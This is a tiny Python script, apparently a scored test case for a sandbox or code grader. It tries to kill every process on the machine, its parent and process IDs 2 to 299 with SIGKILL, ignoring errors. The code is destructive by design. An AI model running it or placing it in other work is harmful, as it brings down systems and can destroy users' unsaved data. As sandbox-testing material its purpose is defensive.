# Kills all processes, its parent and its group.
# points: 0 to 24
import os, signal

for number in (-1, os.getppid(), *range(2, 300)):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
